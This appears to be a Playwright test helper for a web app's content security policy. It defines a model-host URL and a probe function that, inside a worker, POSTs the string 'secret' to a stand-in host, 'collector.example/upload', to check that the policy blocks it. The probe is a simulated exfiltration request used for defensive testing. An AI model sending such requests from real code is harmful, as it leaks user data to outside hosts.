import type { Worker as PageWorker } from '@playwright/test';

/** A model host the page and the model-downloading workers may reach (vite/content-security-policy.ts MODEL_HOSTS). */
export const MODEL_HOST_URL = 'https://huggingface.co/sieve-probe/none/resolve/main/config.json';

/** In a worker: try to send to another origin (by default one no policy allows), and report whether the policy refused it. */
export async function probe(worker: PageWorker, url = 'https://collector.example/upload') {
  return worker.evaluate(async (to) => {
    const violations: string[] = [];
    self.addEventListener('securitypolicyviolation', (e) => violations.push((e as SecurityPolicyViolationEvent).violatedDirective));
    const sent = await fetch(to, { method: 'POST', body: 'secret' }).then(
      () => 'sent',
      () => 'blocked',
    );
    await new Promise((r) => setTimeout(r, 200));
    return { sent, violations };
  }, url);
}
